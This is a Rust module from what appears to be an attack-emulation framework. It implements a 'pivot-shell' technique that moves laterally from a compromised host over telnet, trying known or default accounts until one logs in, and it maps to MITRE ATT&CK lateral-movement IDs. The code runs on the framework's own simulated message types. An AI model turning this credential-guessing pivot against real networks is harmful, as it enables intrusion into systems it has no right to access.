//! Opens a shell on another host from the shell it is in: the connection comes from the held host.

use super::open_shell::next_account;
use super::{Progress, Step, Technique};
use crate::catalog::{Entry, Parameter, ParameterKind};
use crate::net::port::StreamId;
use crate::net::port::{Input, SocketEvent};
use crate::wire::Ip;
use crate::wire::Message;
use crate::wire::shell::{Command, Output, Shell, TELNET_PORT};

/// Technique `pivot-shell`.
#[derive(Debug)]
pub(super) struct PivotShell;

static ENTRY: Entry = Entry {
    id: "pivot-shell",
    title: "Open a shell onward from a held host",
    summary: "From the shell it is in, connects to the telnet port of another host and logs in with known or shipped accounts. The packets \
              are the held host's own.",
    parameters: &[Parameter {
        name: "target",
        kind: ParameterKind::Host,
        required: true,
        doc: "host to go on to",
    }],
    references: &["T1021", "T1570", "T0867"],
};

fn run(step: &mut Step<'_, '_, '_>, stream: StreamId, command: Command) {
    step.hands
        .send(stream, Message::Shell(Box::new(Shell::Run(command))));
}

fn telnet(step: &mut Step<'_, '_, '_>, ip: Ip) -> Progress {
    let Some(shell) = &step.knowledge.shell else {
        return step.in_no_shell();
    };
    let stream = shell.stream;
    run(
        step,
        stream,
        Command::Telnet {
            ip,
            port: TELNET_PORT,
        },
    );
    Progress::Reached(1)
}

impl Technique for PivotShell {
    fn entry(&self) -> &'static Entry {
        &ENTRY
    }

    fn stages(&self) -> &'static [&'static str] {
        &["find", "connect", "log in", "in the onward shell"]
    }

    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        let name = step.params.text("target");
        match input {
            Input::Begin if step.knowledge.shell.is_none() => step.in_no_shell(),
            Input::Begin => match step.find(name) {
                Some(ip) => telnet(step, ip),
                None => Progress::Wait,
            },
            Input::Socket(SocketEvent::Resolved { ip: Some(ip), .. }) => {
                step.found(name, *ip);
                telnet(step, *ip)
            }
            Input::Socket(SocketEvent::Resolved { ip: None, .. }) => {
                Progress::Failed("no such name, or no name server")
            }
            Input::Socket(SocketEvent::Failed { .. } | SocketEvent::Closed(_)) => {
                step.knowledge.shell = None;
                Progress::Failed("lost the shell")
            }
            Input::Socket(SocketEvent::Message { stream, message }) => {
                let Message::Shell(shell) = &**message else {
                    return Progress::Wait;
                };
                let Shell::Output(output) = &**shell else {
                    return Progress::Wait;
                };
                match output {
                    Output::Unreachable => Progress::Failed("onward connection failed"),
                    Output::Onward(said) => match **said {
                        Shell::Banner { open: true } | Shell::LoginResult { accepted: true } => {
                            if let Some(shell) = &mut step.knowledge.shell {
                                shell.onward = true;
                            }
                            Progress::Done("onward prompt")
                        }
                        Shell::Banner { open: false } | Shell::LoginResult { accepted: false } => {
                            let Some((user, password)) = next_account(step) else {
                                return Progress::Failed("every login refused");
                            };
                            run(
                                step,
                                *stream,
                                Command::Onward(Box::new(Shell::Login { user, password })),
                            );
                            Progress::Reached(2)
                        }
                        _ => Progress::Wait,
                    },
                    _ => Progress::Wait,
                }
            }
            _ => Progress::Wait,
        }
    }
}
